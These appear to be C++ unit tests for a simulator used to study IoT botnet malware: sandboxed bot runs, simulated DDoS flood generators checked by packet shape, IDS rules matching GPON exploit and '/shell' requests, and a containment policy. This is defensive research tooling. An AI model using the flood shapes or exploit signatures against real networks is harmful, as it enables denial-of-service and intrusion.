  util::Rng rng(12);
  const auto report = run_observe(b, mal::forge(scanning_bot(std::nullopt), rng));
  const std::string path = ::testing::TempDir() + "/sandbox.pcap";
  report.save_pcap(path);
  const auto packets = net::load_pcap(path);
  EXPECT_EQ(packets.size(), report.capture.size());
}

TEST(Sandbox, ConcurrentRunsDoNotInterfere) {
  Bench b;
  util::Rng rng(13);
  const auto bin_a = mal::forge(scanning_bot(vulndb::VulnId::kGpon10561), rng);
  const auto bin_b = mal::forge(scanning_bot(vulndb::VulnId::kZyxel), rng);
  SandboxReport ra, rb;
  int done = 0;
  SandboxOptions opts;
  b.sandbox.start(bin_a, opts, [&](const SandboxReport& r) { ra = r; ++done; });
  b.sandbox.start(bin_b, opts, [&](const SandboxReport& r) { rb = r; ++done; });
  EXPECT_EQ(b.sandbox.active_runs(), 2u);
  b.sched.run_until(b.sched.now() + sim::Duration::minutes(12));
  ASSERT_EQ(done, 2);
  const auto& vdb = vulndb::VulnDatabase::instance();
  std::set<vulndb::VulnId> vulns_a, vulns_b;
  for (const auto& e : ra.exploits) {
    if (const auto* v = vdb.match_payload(e.payload)) vulns_a.insert(v->id);
  }
  for (const auto& e : rb.exploits) {
    if (const auto* v = vdb.match_payload(e.payload)) vulns_b.insert(v->id);
  }
  EXPECT_TRUE(vulns_a.count(vulndb::VulnId::kGpon10561));
  EXPECT_FALSE(vulns_a.count(vulndb::VulnId::kZyxel));
  EXPECT_TRUE(vulns_b.count(vulndb::VulnId::kZyxel));
  EXPECT_FALSE(vulns_b.count(vulndb::VulnId::kGpon10561));
}

// --- attack generation -----------------------------------------------------------

class AttackGen : public ::testing::TestWithParam<proto::AttackType> {};

TEST_P(AttackGen, ProducesExpectedWireShape) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  sim::Host bot(net, net::Ipv4{10, 0, 0, 1});
  std::vector<net::Packet> sent;
  bot.set_tap([&](const net::Packet& p, bool outbound) {
    if (outbound) sent.push_back(p);
  });

  proto::AttackCommand cmd;
  cmd.type = GetParam();
  cmd.target = {net::Ipv4{7, 7, 7, 7},
                GetParam() == proto::AttackType::kBlacknurse ? net::Port{0}
                                                             : net::Port{8080}};
  cmd.duration_s = 5;
  AttackGenOptions opts;
  opts.pps = 100;
  opts.max_duration = sim::Duration::seconds(2);
  util::Rng rng(14);
  bool finished = false;
  launch_attack(bot, cmd, opts, rng, [&] { finished = true; });
  sched.run_until(sched.now() + sim::Duration::seconds(5));

  EXPECT_TRUE(finished);
  ASSERT_GE(sent.size(), 100u);  // ~2s at 100pps
  for (const auto& p : sent) EXPECT_EQ(p.dst, cmd.target.ip);

  switch (GetParam()) {
    case proto::AttackType::kUdpFlood:
      EXPECT_EQ(sent[0].proto, net::Protocol::kUdp);
      EXPECT_EQ(sent[0].payload, util::Bytes{0x00});  // null-byte payload (§5.1)
      break;
    case proto::AttackType::kSynFlood: {
      EXPECT_EQ(sent[0].proto, net::Protocol::kTcp);
      EXPECT_TRUE(sent[0].flags.syn);
      std::set<net::Port> src_ports;
      for (const auto& p : sent) src_ports.insert(p.src_port);
      EXPECT_GT(src_ports.size(), 10u);  // multiple source ports (§5.1)
      break;
    }
    case proto::AttackType::kVse:
      EXPECT_TRUE(util::contains(sent[0].payload,
                                 std::string_view("Source Engine Query")));
      break;
    case proto::AttackType::kStd: {
      // One random string, reused for the whole attack (§5.1).
      EXPECT_EQ(sent[0].payload.size(), 32u);
      for (const auto& p : sent) EXPECT_EQ(p.payload, sent[0].payload);
      break;
    }
    case proto::AttackType::kBlacknurse:
      EXPECT_EQ(sent[0].proto, net::Protocol::kIcmp);
      EXPECT_EQ(sent[0].icmp.type, 3);
      EXPECT_EQ(sent[0].icmp.code, 3);
      break;
    case proto::AttackType::kNfo:
      EXPECT_TRUE(util::contains(sent[0].payload, std::string_view("NFOV6")));
      break;
    case proto::AttackType::kTls:
      EXPECT_EQ(sent[0].payload[0], 0x16);  // TLS handshake record type
      break;
    case proto::AttackType::kStomp:
      EXPECT_EQ(sent[0].proto, net::Protocol::kTcp);
      EXPECT_TRUE(util::contains(sent[0].payload, std::string_view("CONNECT")));
      break;
  }
}

INSTANTIATE_TEST_SUITE_P(
    AllTypes, AttackGen,
    ::testing::Values(proto::AttackType::kUdpFlood, proto::AttackType::kSynFlood,
                      proto::AttackType::kTls, proto::AttackType::kStomp,
                      proto::AttackType::kVse, proto::AttackType::kStd,
                      proto::AttackType::kBlacknurse, proto::AttackType::kNfo),
    [](const auto& info) {
      std::string name = proto::to_string(info.param);
      for (auto& c : name) {
        if (!std::isalnum(static_cast<unsigned char>(c))) c = '_';
      }
      return name;
    });
