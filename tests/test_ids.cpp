#include <gtest/gtest.h>

#include "ids/engine.hpp"
#include "ids/rules.hpp"

using namespace malnet;
using namespace malnet::ids;

namespace {
net::Packet make_pkt(net::Protocol proto, const char* src, net::Port sport,
                     const char* dst, net::Port dport, std::string_view payload = "") {
  net::Packet p;
  p.src = *net::parse_ipv4(src);
  p.dst = *net::parse_ipv4(dst);
  p.proto = proto;
  p.src_port = sport;
  p.dst_port = dport;
  p.payload = util::to_bytes(payload);
  return p;
}
}  // namespace

TEST(IdsContent, PlainAndHexEscapes) {
  auto c = parse_content("abc");
  ASSERT_TRUE(c);
  EXPECT_EQ(*c, util::to_bytes("abc"));
  c = parse_content("ab|0d 0a|cd");
  ASSERT_TRUE(c);
  EXPECT_EQ(*c, util::from_hex("6162 0d0a 6364"));
  c = parse_content("|ff fb|");
  ASSERT_TRUE(c);
  EXPECT_EQ(*c, util::from_hex("fffb"));
  EXPECT_FALSE(parse_content("|zz|"));
  EXPECT_FALSE(parse_content("abc|0d"));  // unterminated
}

TEST(IdsParse, FullRule) {
  std::string err;
  const auto rule = parse_rule(
      "drop tcp 10.0.0.0/8 any -> any 23 (msg:\"telnet out\"; content:\"root\"; "
      "sid:42;)",
      &err);
  ASSERT_TRUE(rule) << err;
  EXPECT_EQ(rule->action, Action::kDrop);
  EXPECT_EQ(rule->proto, net::Protocol::kTcp);
  EXPECT_EQ(rule->msg, "telnet out");
  EXPECT_EQ(rule->sid, 42u);
  ASSERT_EQ(rule->contents.size(), 1u);
}

TEST(IdsParse, PortRangesAndAnyFields) {
  const auto rule = parse_rule("alert udp any 1024:65535 -> 1.2.3.4 any");
  ASSERT_TRUE(rule);
  EXPECT_TRUE(rule->src.any);
  EXPECT_FALSE(rule->sport.any);
  EXPECT_EQ(rule->sport.lo, 1024);
  EXPECT_FALSE(rule->dst.any);
  EXPECT_TRUE(rule->dport.any);
}

TEST(IdsParse, Failures) {
  std::string err;
  EXPECT_FALSE(parse_rule("bogus tcp any any -> any any", &err));
  EXPECT_FALSE(parse_rule("drop tcp any any <- any any", &err));
  EXPECT_FALSE(parse_rule("drop xdp any any -> any any", &err));
  EXPECT_FALSE(parse_rule("drop tcp any any -> any 99999", &err));
  EXPECT_FALSE(parse_rule("drop tcp any any -> any 23 (frob:1;)", &err));
  EXPECT_FALSE(parse_rule("drop tcp any any -> any 23 (msg:\"x\"", &err));
  EXPECT_FALSE(parse_rule("drop tcp nonsense any -> any 23", &err));
}

TEST(IdsParse, RuleFileWithCommentsAndErrors) {
  const auto good = RuleSet::parse(
      "# containment policy\n"
      "pass tcp any any -> 1.2.3.4 23 (msg:\"c2\";)\n"
      "\n"
      "drop ip any any -> any any (msg:\"default deny\";)\n");
  ASSERT_TRUE(good);
  EXPECT_EQ(good->size(), 2u);

  ParseError err;
  EXPECT_FALSE(RuleSet::parse("ok tcp any any -> any any\n", &err));
  EXPECT_EQ(err.line, 1u);
}

TEST(IdsMatch, HeaderFields) {
  const auto rule = parse_rule("alert tcp 10.0.0.0/8 any -> any 23");
  ASSERT_TRUE(rule);
  EXPECT_TRUE(rule->matches(make_pkt(net::Protocol::kTcp, "10.1.2.3", 5, "2.2.2.2", 23)));
  EXPECT_FALSE(rule->matches(make_pkt(net::Protocol::kUdp, "10.1.2.3", 5, "2.2.2.2", 23)));
  EXPECT_FALSE(rule->matches(make_pkt(net::Protocol::kTcp, "11.1.2.3", 5, "2.2.2.2", 23)));
  EXPECT_FALSE(rule->matches(make_pkt(net::Protocol::kTcp, "10.1.2.3", 5, "2.2.2.2", 24)));
}

TEST(IdsMatch, IcmpIgnoresPorts) {
  const auto rule = parse_rule("alert icmp any any -> any any");
  ASSERT_TRUE(rule);
  EXPECT_TRUE(rule->matches(make_pkt(net::Protocol::kIcmp, "1.1.1.1", 0, "2.2.2.2", 0)));
}

TEST(IdsMatch, ContentAllMustMatchAndNocase) {
  const auto rule = parse_rule(
      "alert tcp any any -> any any (content:\"GET\"; content:\"/shell\";)");
  ASSERT_TRUE(rule);
  EXPECT_TRUE(rule->matches(
      make_pkt(net::Protocol::kTcp, "1.1.1.1", 1, "2.2.2.2", 2, "GET /shell?x")));
  EXPECT_FALSE(rule->matches(
      make_pkt(net::Protocol::kTcp, "1.1.1.1", 1, "2.2.2.2", 2, "GET /index")));

  const auto nc = parse_rule("alert tcp any any -> any any (content:\"gpon\"; nocase;)");
  ASSERT_TRUE(nc);
  EXPECT_TRUE(nc->matches(
      make_pkt(net::Protocol::kTcp, "1.1.1.1", 1, "2.2.2.2", 2, "POST /GponForm/")));
}

TEST(IdsEvaluate, FirstMatchSemantics) {
  const auto set = RuleSet::parse(
      "pass tcp any any -> 9.9.9.9 23\n"
      "drop tcp any any -> any any (sid:100;)\n");
  ASSERT_TRUE(set);
  EXPECT_FALSE(set->evaluate(make_pkt(net::Protocol::kTcp, "1.1.1.1", 1, "9.9.9.9", 23)).drop);
  EXPECT_TRUE(set->evaluate(make_pkt(net::Protocol::kTcp, "1.1.1.1", 1, "8.8.8.8", 23)).drop);
}

TEST(IdsEngine, CountsAlertsAndDrops) {
  auto set = RuleSet::parse(
      "alert tcp any any -> any 23 (msg:\"telnet\"; sid:7;)\n"
      "drop udp any any -> any any (msg:\"no udp\"; sid:8;)\n");
  ASSERT_TRUE(set);
  Engine engine(std::move(*set));
  EXPECT_TRUE(engine.inspect(make_pkt(net::Protocol::kTcp, "1.1.1.1", 1, "2.2.2.2", 23)));
  EXPECT_FALSE(engine.inspect(make_pkt(net::Protocol::kUdp, "1.1.1.1", 1, "2.2.2.2", 53)));
  EXPECT_EQ(engine.inspected(), 2u);
  EXPECT_EQ(engine.dropped(), 1u);
  ASSERT_EQ(engine.alerts().size(), 2u);
  EXPECT_EQ(engine.alert_counts().at(7), 1u);
  EXPECT_EQ(engine.alert_counts().at(8), 1u);
}

TEST(IdsEngine, ContainmentPolicyShape) {
  // §2.6c: during the DDoS watch, only C2-bound traffic and DNS leave.
  const net::Endpoint c2{net::Ipv4{5, 5, 5, 5}, 666};
  Engine engine(containment_policy(c2));
  EXPECT_TRUE(engine.inspect(make_pkt(net::Protocol::kTcp, "10.0.0.1", 1, "5.5.5.5", 666)));
  EXPECT_TRUE(engine.inspect(make_pkt(net::Protocol::kUdp, "10.0.0.1", 1, "1.1.1.1", 53)));
  // Attack flood to a victim: captured upstream, dropped here.
  EXPECT_FALSE(engine.inspect(make_pkt(net::Protocol::kUdp, "10.0.0.1", 1, "7.7.7.7", 80)));
  EXPECT_FALSE(engine.inspect(make_pkt(net::Protocol::kTcp, "10.0.0.1", 1, "5.5.5.5", 667)));
  EXPECT_FALSE(engine.inspect(make_pkt(net::Protocol::kIcmp, "10.0.0.1", 0, "7.7.7.7", 0)));
}

TEST(IdsEngine, AttachToHostFiltersOutbound) {
  sim::EventScheduler sched;
  sim::Network net{sched};
  sim::Host guest(net, net::Ipv4{10, 0, 0, 1});
  sim::Host victim(net, net::Ipv4{7, 7, 7, 7});
  bool victim_got = false;
  victim.udp_bind(80, [&](const net::Packet&) { victim_got = true; });

  Engine engine(containment_policy({net::Ipv4{5, 5, 5, 5}, 666}));
  engine.attach_to(guest);
  guest.udp_send({victim.addr(), 80}, util::to_bytes("flood"));
  sched.run();
  EXPECT_FALSE(victim_got);
  EXPECT_EQ(engine.dropped(), 1u);
}

TEST(IdsMatch, IcmpTypeCodeOptions) {
  const auto rule = parse_rule(
      "alert icmp any any -> any any (msg:\"blacknurse\"; itype:3; icode:3;)");
  ASSERT_TRUE(rule);
  auto p = make_pkt(net::Protocol::kIcmp, "1.1.1.1", 0, "2.2.2.2", 0);
  p.icmp = {3, 3};
  EXPECT_TRUE(rule->matches(p));
  p.icmp = {3, 1};
  EXPECT_FALSE(rule->matches(p));
  p.icmp = {8, 3};
  EXPECT_FALSE(rule->matches(p));
  // itype on a TCP packet never matches.
  EXPECT_FALSE(rule->matches(make_pkt(net::Protocol::kTcp, "1.1.1.1", 1, "2.2.2.2", 2)));
  EXPECT_FALSE(parse_rule("alert icmp any any -> any any (itype:300;)"));
}
