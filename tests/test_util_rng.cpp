#include <gtest/gtest.h>

#include <cmath>

#include "util/rng.hpp"

using namespace malnet::util;

TEST(Rng, DeterministicForSameSeed) {
  Rng a(42), b(42);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a(), b());
}

TEST(Rng, DifferentSeedsDiverge) {
  Rng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 100; ++i) {
    if (a() == b()) ++same;
  }
  EXPECT_LT(same, 3);
}

TEST(Rng, ForkIsIndependentOfParentConsumption) {
  // Forking with the same name from identically-seeded parents at the same
  // point must agree...
  Rng a(9), b(9);
  Rng fa = a.fork("x");
  Rng fb = b.fork("x");
  EXPECT_EQ(fa(), fb());
  // ...and differently-named forks must not.
  Rng c(9);
  Rng fc = c.fork("y");
  Rng d(9);
  Rng fd = d.fork("x");
  EXPECT_NE(fc(), fd());
}

TEST(Rng, UniformStaysInBounds) {
  Rng r(3);
  for (int i = 0; i < 1000; ++i) {
    const auto v = r.uniform(10, 20);
    EXPECT_GE(v, 10u);
    EXPECT_LE(v, 20u);
  }
  EXPECT_EQ(r.uniform(7, 7), 7u);
}

TEST(Rng, UniformRejectsInvertedBounds) {
  Rng r(3);
  EXPECT_THROW((void)r.uniform(5, 4), std::invalid_argument);
}

TEST(Rng, Uniform01InHalfOpenInterval) {
  Rng r(5);
  double sum = 0;
  for (int i = 0; i < 10000; ++i) {
    const double v = r.uniform01();
    ASSERT_GE(v, 0.0);
    ASSERT_LT(v, 1.0);
    sum += v;
  }
  EXPECT_NEAR(sum / 10000, 0.5, 0.02);
}

TEST(Rng, ChanceExtremes) {
  Rng r(6);
  EXPECT_FALSE(r.chance(0.0));
  EXPECT_TRUE(r.chance(1.0));
  EXPECT_FALSE(r.chance(-1.0));
  EXPECT_TRUE(r.chance(2.0));
}

TEST(Rng, GeometricMeanMatches) {
  Rng r(7);
  const double p = 0.4;
  double sum = 0;
  const int n = 20000;
  for (int i = 0; i < n; ++i) sum += static_cast<double>(r.geometric(p));
  EXPECT_NEAR(sum / n, (1 - p) / p, 0.05);
}

TEST(Rng, GeometricWithPOneIsZero) {
  Rng r(8);
  EXPECT_EQ(r.geometric(1.0), 0u);
}

TEST(Rng, GeometricRejectsBadP) {
  Rng r(8);
  EXPECT_THROW((void)r.geometric(0.0), std::invalid_argument);
  EXPECT_THROW((void)r.geometric(1.5), std::invalid_argument);
}

TEST(Rng, ExponentialMeanMatches) {
  Rng r(9);
  double sum = 0;
  const int n = 20000;
  for (int i = 0; i < n; ++i) sum += r.exponential(0.5);
  EXPECT_NEAR(sum / n, 2.0, 0.1);
}

TEST(Rng, WeightedRespectsWeights) {
  Rng r(10);
  int counts[3] = {0, 0, 0};
  for (int i = 0; i < 30000; ++i) ++counts[r.weighted({1.0, 2.0, 7.0})];
  EXPECT_NEAR(counts[0] / 30000.0, 0.1, 0.02);
  EXPECT_NEAR(counts[1] / 30000.0, 0.2, 0.02);
  EXPECT_NEAR(counts[2] / 30000.0, 0.7, 0.02);
}

TEST(Rng, WeightedRejectsDegenerate) {
  Rng r(11);
  EXPECT_THROW((void)r.weighted({}), std::invalid_argument);
  EXPECT_THROW((void)r.weighted({0.0, 0.0}), std::invalid_argument);
}

TEST(Rng, ZipfFavoursLowRanks) {
  Rng r(12);
  int rank1 = 0, rank10 = 0;
  for (int i = 0; i < 20000; ++i) {
    const auto k = r.zipf(10, 1.0);
    ASSERT_GE(k, 1u);
    ASSERT_LE(k, 10u);
    if (k == 1) ++rank1;
    if (k == 10) ++rank10;
  }
  EXPECT_GT(rank1, rank10 * 5);
}

TEST(Rng, ShuffleIsAPermutation) {
  Rng r(13);
  std::vector<int> v{1, 2, 3, 4, 5, 6, 7, 8};
  auto shuffled = v;
  r.shuffle(shuffled);
  std::sort(shuffled.begin(), shuffled.end());
  EXPECT_EQ(shuffled, v);
}

TEST(Fnv1a, StableKnownValue) {
  EXPECT_EQ(fnv1a64(""), 0xcbf29ce484222325ULL);
  EXPECT_EQ(fnv1a64("a"), 0xaf63dc4c8601ec8cULL);
}

class RngDistributionSweep : public ::testing::TestWithParam<double> {};

TEST_P(RngDistributionSweep, GeometricMeanAcrossP) {
  const double p = GetParam();
  Rng r(static_cast<std::uint64_t>(p * 1000));
  double sum = 0;
  const int n = 30000;
  for (int i = 0; i < n; ++i) sum += static_cast<double>(r.geometric(p));
  const double expected = (1 - p) / p;
  EXPECT_NEAR(sum / n, expected, expected * 0.1 + 0.02);
}

INSTANTIATE_TEST_SUITE_P(PSweep, RngDistributionSweep,
                         ::testing::Values(0.1, 0.25, 0.5, 0.75, 0.9));
