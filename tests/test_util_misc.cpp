// Tests for str, stats, simtime, csv, fsio and thread-pool helpers.
#include <gtest/gtest.h>

#include <unistd.h>

#include <atomic>
#include <cmath>
#include <fstream>
#include <numeric>

#include "util/csv.hpp"
#include "util/fsio.hpp"
#include "util/simtime.hpp"
#include "util/stats.hpp"
#include "util/str.hpp"
#include "util/thread_pool.hpp"

using namespace malnet::util;

// --- str ---------------------------------------------------------------------

TEST(Str, SplitPreservesEmptyFields) {
  EXPECT_EQ(split("a,,b", ','), (std::vector<std::string>{"a", "", "b"}));
  EXPECT_EQ(split("", ','), (std::vector<std::string>{""}));
}

TEST(Str, SplitWsCollapsesRuns) {
  EXPECT_EQ(split_ws("  a \t b\nc  "), (std::vector<std::string>{"a", "b", "c"}));
  EXPECT_TRUE(split_ws("   ").empty());
}

TEST(Str, JoinInverseOfSplit) {
  EXPECT_EQ(join({"x", "y", "z"}, "-"), "x-y-z");
  EXPECT_EQ(join({}, "-"), "");
}

TEST(Str, Trim) {
  EXPECT_EQ(trim("  hi  "), "hi");
  EXPECT_EQ(trim("hi"), "hi");
  EXPECT_EQ(trim("   "), "");
}

TEST(Str, CaseHelpers) {
  EXPECT_EQ(to_lower("AbC"), "abc");
  EXPECT_EQ(to_upper("AbC"), "ABC");
  EXPECT_TRUE(iequals("UDP", "udp"));
  EXPECT_FALSE(iequals("UDP", "ud"));
}

TEST(Str, ParseU64Strict) {
  EXPECT_EQ(parse_u64("123"), 123u);
  EXPECT_FALSE(parse_u64(""));
  EXPECT_FALSE(parse_u64("12x"));
  EXPECT_FALSE(parse_u64("-1"));
  EXPECT_FALSE(parse_u64(" 1"));
}

TEST(Str, FormatArgs) {
  EXPECT_EQ(format_args("{} + {} = {}", {"1", "2", "3"}), "1 + 2 = 3");
  EXPECT_EQ(format_args("{}", {}), "{}");
}

TEST(Str, Padding) {
  EXPECT_EQ(pad_left("ab", 4), "  ab");
  EXPECT_EQ(pad_right("ab", 4), "ab  ");
  EXPECT_EQ(pad_left("abcdef", 3), "abcdef");
}

TEST(Str, PercentFormatting) {
  EXPECT_EQ(percent(0.153), "15.3%");
  EXPECT_EQ(percent(1.0, 0), "100%");
}

// --- stats -------------------------------------------------------------------

TEST(Cdf, BasicQueries) {
  Cdf c;
  for (double x : {1.0, 1.0, 1.0, 2.0, 4.0}) c.add(x);
  EXPECT_DOUBLE_EQ(c.at(0.5), 0.0);
  EXPECT_DOUBLE_EQ(c.at(1.0), 0.6);
  EXPECT_DOUBLE_EQ(c.at(3.0), 0.8);
  EXPECT_DOUBLE_EQ(c.at(4.0), 1.0);
  EXPECT_DOUBLE_EQ(c.mass_at(1.0), 0.6);
  EXPECT_DOUBLE_EQ(c.mean(), 1.8);
  EXPECT_DOUBLE_EQ(c.min(), 1.0);
  EXPECT_DOUBLE_EQ(c.max(), 4.0);
}

TEST(Cdf, Quantiles) {
  Cdf c;
  for (int i = 1; i <= 100; ++i) c.add(i);
  EXPECT_DOUBLE_EQ(c.quantile(0.5), 50);
  EXPECT_DOUBLE_EQ(c.quantile(1.0), 100);
  EXPECT_DOUBLE_EQ(c.quantile(0.01), 1);
  EXPECT_THROW((void)c.quantile(1.5), std::invalid_argument);
}

TEST(Cdf, StepsAreMonotone) {
  Cdf c;
  for (double x : {3.0, 1.0, 2.0, 2.0}) c.add(x);
  const auto steps = c.steps();
  ASSERT_EQ(steps.size(), 3u);
  EXPECT_DOUBLE_EQ(steps.back().second, 1.0);
  for (std::size_t i = 1; i < steps.size(); ++i) {
    EXPECT_GT(steps[i].first, steps[i - 1].first);
    EXPECT_GT(steps[i].second, steps[i - 1].second);
  }
}

TEST(Cdf, EmptyBehaviour) {
  // Empty distributions answer NaN, not throw: chaos-degraded studies can
  // legitimately produce empty CDFs, and figure emitters must keep going.
  Cdf c;
  EXPECT_TRUE(c.empty());
  EXPECT_DOUBLE_EQ(c.at(1.0), 0.0);
  EXPECT_TRUE(std::isnan(c.min()));
  EXPECT_TRUE(std::isnan(c.max()));
  EXPECT_TRUE(std::isnan(c.quantile(0.5)));
  // Argument validation still throws, empty or not.
  EXPECT_THROW((void)c.quantile(1.5), std::invalid_argument);
}

TEST(Histogram, CountsAndMode) {
  Histogram h;
  EXPECT_EQ(h.mode(), 0);  // empty histogram has a defined (zero) mode
  h.add(1);
  h.add(2, 5);
  h.add(1);
  EXPECT_EQ(h.at(1), 2u);
  EXPECT_EQ(h.at(2), 5u);
  EXPECT_EQ(h.at(3), 0u);
  EXPECT_EQ(h.total(), 7u);
  EXPECT_EQ(h.mode(), 2);
}

TEST(Stats, Pearson) {
  const std::vector<double> xs{1, 2, 3, 4};
  const std::vector<double> ys{2, 4, 6, 8};
  EXPECT_NEAR(pearson(xs, ys), 1.0, 1e-9);
  const std::vector<double> zs{8, 6, 4, 2};
  EXPECT_NEAR(pearson(xs, zs), -1.0, 1e-9);
  const std::vector<double> flat{1, 1, 1, 1};
  EXPECT_DOUBLE_EQ(pearson(xs, flat), 0.0);
}

// --- simtime -----------------------------------------------------------------

TEST(SimTime, DurationArithmetic) {
  EXPECT_EQ(Duration::days(1).us, 86'400'000'000LL);
  EXPECT_EQ((Duration::hours(1) * 24).us, Duration::days(1).us);
  EXPECT_EQ((Duration::minutes(90) - Duration::hours(1)).us, Duration::minutes(30).us);
}

TEST(SimTime, DayAndWeek) {
  const SimTime t{Duration::days(15).us + Duration::hours(3).us};
  EXPECT_EQ(t.day(), 15);
  EXPECT_EQ(t.week(), 3);  // days 14..20 are week 3 (1-based)
  EXPECT_EQ(SimTime{0}.week(), 1);
}

TEST(SimTime, Rendering) {
  const SimTime t = SimTime{} + Duration::days(2) + Duration::hours(3) +
                    Duration::minutes(4) + Duration::seconds(5);
  EXPECT_EQ(to_string(t), "d2 03:04:05");
  EXPECT_EQ(to_string(Duration::hours(26)), "1d2h");
  EXPECT_EQ(to_string(Duration::minutes(61)), "1h1m");
}

TEST(SimTime, StudyDateCalendar) {
  EXPECT_EQ(study_date(0), "2021-03-29");
  EXPECT_EQ(study_date(2), "2021-03-31");
  EXPECT_EQ(study_date(3), "2021-04-01");
  EXPECT_EQ(study_date(278), "2022-01-01");
  EXPECT_EQ(study_date(364), "2022-03-28");
}

TEST(SimTime, CivilToStudyDay) {
  EXPECT_EQ(civil_to_study_day(2021, 3, 29), 0);
  EXPECT_EQ(civil_to_study_day(2021, 3, 28), -1);
  EXPECT_EQ(civil_to_study_day(2022, 5, 7), 404);
  // Table 4 publication dates land well before the study.
  EXPECT_LT(civil_to_study_day(2015, 2, 23), -2000);
}

// --- csv ---------------------------------------------------------------------

TEST(Csv, EscapesSpecialCharacters) {
  CsvWriter w({"a", "b"});
  w.field("plain").field("has,comma");
  w.end_row();
  w.field("has\"quote").field("line\nbreak");
  w.end_row();
  const auto s = w.str();
  EXPECT_NE(s.find("\"has,comma\""), std::string::npos);
  EXPECT_NE(s.find("\"has\"\"quote\""), std::string::npos);
  EXPECT_EQ(w.rows(), 2u);
}

TEST(Csv, EnforcesRowWidth) {
  CsvWriter w({"a", "b"});
  w.field("1");
  EXPECT_THROW(w.end_row(), std::logic_error);
  w.field("2");
  EXPECT_THROW(w.field("3"), std::logic_error);
}

TEST(Csv, NumericFields) {
  CsvWriter w({"n", "d"});
  w.field(std::uint64_t{42}).field(3.14159, 2);
  w.end_row();
  EXPECT_NE(w.str().find("42,3.14"), std::string::npos);
}

TEST(Cdf, QuantileAtZeroIsSmallestSample) {
  // Regression: q=0 used to produce a negative index before the unsigned
  // cast (UB); it must return the minimum.
  Cdf c;
  for (double x : {5.0, 1.0, 9.0}) c.add(x);
  EXPECT_DOUBLE_EQ(c.quantile(0.0), 1.0);
  EXPECT_DOUBLE_EQ(c.quantile(1e-9), 1.0);
}

TEST(Cdf, CountIsStableAcrossSortStates) {
  // Regression: count() used to branch on the lazy-sort flag (a nonsense
  // ternary with identical arms); it must report the sample count in every
  // add()/query interleaving, sorted or not.
  Cdf c;
  EXPECT_EQ(c.count(), 0u);
  c.add(3.0);
  c.add(1.0);
  EXPECT_EQ(c.count(), 2u);  // unsorted state
  EXPECT_DOUBLE_EQ(c.quantile(1.0), 3.0);
  EXPECT_EQ(c.count(), 2u);  // sorted state, unchanged
  c.add(2.0);
  EXPECT_EQ(c.count(), 3u);  // dirty again after another add
  EXPECT_DOUBLE_EQ(c.at(2.0), 2.0 / 3.0);
  EXPECT_EQ(c.count(), 3u);
}

// --- thread_pool -------------------------------------------------------------

TEST(ThreadPool, RunsEveryJobExactlyOnce) {
  ThreadPool pool(4);
  std::vector<std::atomic<int>> hits(100);
  parallel_for(pool, hits.size(), [&](std::size_t i) { ++hits[i]; });
  for (std::size_t i = 0; i < hits.size(); ++i) {
    EXPECT_EQ(hits[i].load(), 1) << "job " << i;
  }
}

TEST(ThreadPool, WaitIdleDrainsTheQueue) {
  ThreadPool pool(2);
  std::atomic<int> done{0};
  for (int i = 0; i < 32; ++i) {
    pool.submit([&done] { ++done; });
  }
  pool.wait_idle();
  EXPECT_EQ(done.load(), 32);
  // The pool stays usable after an idle wait.
  pool.submit([&done] { ++done; });
  pool.wait_idle();
  EXPECT_EQ(done.load(), 33);
}

TEST(ThreadPool, ParallelForRethrowsTheFirstError) {
  ThreadPool pool(3);
  std::atomic<int> ran{0};
  try {
    parallel_for(pool, 16, [&](std::size_t i) {
      ++ran;
      if (i == 5 || i == 11) throw std::runtime_error("job " + std::to_string(i));
    });
    FAIL() << "expected parallel_for to rethrow";
  } catch (const std::runtime_error& e) {
    EXPECT_STREQ(e.what(), "job 5");  // lowest job index wins, deterministically
  }
  EXPECT_EQ(ran.load(), 16) << "a failed job must not cancel its siblings";
}

TEST(ThreadPool, ZeroWorkersClampsToOne) {
  ThreadPool pool(0);
  EXPECT_EQ(pool.worker_count(), 1u);
  EXPECT_GE(ThreadPool::default_worker_count(), 1u);
}

// --- fsio --------------------------------------------------------------------

TEST(Fsio, TempNamingRoundTrip) {
  EXPECT_EQ(atomic_temp_path("/a/b/out.mds", 42), "/a/b/.out.mds.tmp42");
  EXPECT_EQ(atomic_temp_path("out.mds", 7), "./.out.mds.tmp7");
  EXPECT_TRUE(is_atomic_temp_name(".out.mds.tmp42"));
  EXPECT_TRUE(is_atomic_temp_name(".MANIFEST.tmp1"));
  EXPECT_FALSE(is_atomic_temp_name("out.mds"));
  EXPECT_FALSE(is_atomic_temp_name("MANIFEST"));
  EXPECT_FALSE(is_atomic_temp_name(".hidden"));
  EXPECT_FALSE(is_atomic_temp_name(".x.tmp"));     // no pid digits
  EXPECT_FALSE(is_atomic_temp_name(".x.tmp12a"));  // non-digit suffix
}

TEST(Fsio, WriteFileAtomicWritesAndReplaces) {
  const auto path = ::testing::TempDir() + "/fsio_target.bin";
  write_file_atomic(path, std::string_view("first"));
  write_file_atomic(path, std::string_view("second, longer content"));
  std::ifstream f(path, std::ios::binary);
  std::string got((std::istreambuf_iterator<char>(f)),
                  std::istreambuf_iterator<char>());
  EXPECT_EQ(got, "second, longer content");
  EXPECT_FALSE(std::ifstream(atomic_temp_path(path, static_cast<long>(getpid())))
                   .good());
}

TEST(Fsio, WriteFileAtomicThrowsOnMissingDirectory) {
  EXPECT_THROW(
      write_file_atomic("/nonexistent-dir-for-fsio-test/x", std::string_view("v")),
      std::runtime_error);
}
