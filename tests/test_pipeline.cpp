// End-to-end pipeline tests on a scaled-down study, cross-validated against
// the world's ground truth.
#include <gtest/gtest.h>

#include <set>

#include "core/pipeline.hpp"
#include "report/claims.hpp"
#include "report/summary.hpp"

using namespace malnet;
using namespace malnet::core;

namespace {
Pipeline* g_pipeline = nullptr;

// One shared scaled-down run (the full pipeline is exercised by the
// benches; tests keep the world small for speed).
const StudyResults& results() {
  static const StudyResults kResults = [] {
    PipelineConfig cfg;
    cfg.seed = 22;
    cfg.world.total_samples = 300;
    cfg.probe_rounds = 24;  // four days of probing
    static Pipeline pipeline(cfg);
    g_pipeline = &pipeline;
    return pipeline.run();
  }();
  return kResults;
}

const Pipeline& pipeline() {
  (void)results();
  return *g_pipeline;
}
}  // namespace

TEST(PipelineE2E, AllSamplesAnalysed) {
  EXPECT_EQ(results().d_samples.size(), 300u);
  EXPECT_GT(results().non_mips_skipped, 0u)
      << "the feed's ARM/x86 noise must be discarded at the gate (§2.2)";
  int activated = 0;
  for (const auto& s : results().d_samples) activated += s.activated ? 1 : 0;
  // §6f: activation rate ~90%.
  EXPECT_GT(activated, 240);
}

